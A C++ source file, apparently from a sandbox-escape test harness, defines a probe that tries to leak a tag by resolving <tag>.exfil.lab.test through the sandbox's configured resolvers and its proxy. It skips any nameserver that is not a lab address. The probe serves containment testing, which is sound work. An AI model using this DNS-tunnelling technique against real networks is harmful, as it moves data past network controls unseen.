// dns.subdomain_exfil — data out through name resolution: <tag>.exfil.lab.test
// looked up through whatever resolver the sandbox offers — the nameservers in
// /etc/resolv.conf (only those that are lab addresses: loopback stubs such as
// 127.0.0.11 or 127.0.0.53 forward upstream) and, when there is a proxy, the
// proxy itself (CONNECT/GET to the name makes it resolve it). Escaped when the
// lab DNS sink logs the name.
#include "../../lab/lab_plan.hpp"
#include "../probe.hpp"
#include "../support/dns.hpp"
#include "../support/net.hpp"
#include "../support/proxy.hpp"
#include "../support/tls.hpp"

namespace lab = bottle::escape::lab;
namespace support = bottle::escape::probe::support;
namespace dns = bottle::escape::probe::support::dns;
namespace tls = bottle::escape::probe::support::tls;

BOTTLE_PROBE(dns_subdomain_exfil, "dns.subdomain_exfil",
             "resolve <tag>.exfil.lab.test via the configured resolvers and via the proxy",
             bottle::escape::probe::scoring::sink, "resolver", "proxy") {
    const auto rc = dns::read_resolv_conf();
    rep.observe("/etc/resolv.conf: " + (rc.ok ? rc.text : support::errno_name(rc.err) + " (glibc default 127.0.0.1)"));
    std::vector<std::function<support::hop_result()>> jobs;
    for (const auto& ns : rc.nameservers) {
        if (!lab::is_lab_target(ns)) {
            rep.not_made("resolver", "query nameserver " + ns + " from resolv.conf", "not a lab address: skipped");
            continue;
        }
        for (bool tcp : {false, true}) {
            jobs.emplace_back([&ctx, ns, tcp] {
                const std::string name = std::string(tcp ? "t" : "u") + "." + ctx.tag + "." + std::string(lab::exfil_zone);
                const auto e = tcp ? dns::query_tcp(ns, dns::build_query(dns::random_id(), {{name, dns::type_a, 1}}), 900)
                                   : dns::query_udp(ns, dns::build_query(dns::random_id(), {{name, dns::type_a, 1}}), 900);
                return support::hop_result{std::string(tcp ? "DNS/TCP" : "DNS/UDP") + " to resolv.conf nameserver " + ns +
                                               ": A " + name,
                                           e.outcome, e.sent, e.answer.valid ? e.answer.summary : std::string(), e.made};
            });
        }
    }
    support::record_all(rep, jobs, 12, "resolver");
    if (const auto px = support::proxy_channel(rep, "proxy")) {
        const std::string name = "p." + ctx.tag + "." + std::string(lab::exfil_zone);
        std::vector<std::function<support::hop_result()>> via;
        via.emplace_back([&, name] { return support::proxy_connect(*px, name + ":443", tls::client_hello(name, ctx.tag)); });
        via.emplace_back([&, name] { return support::proxy_send(*px, support::absolute_get(ctx, px, "g" + name.substr(1))); });
        support::record_all(rep, via, 12, "proxy");
    }
}
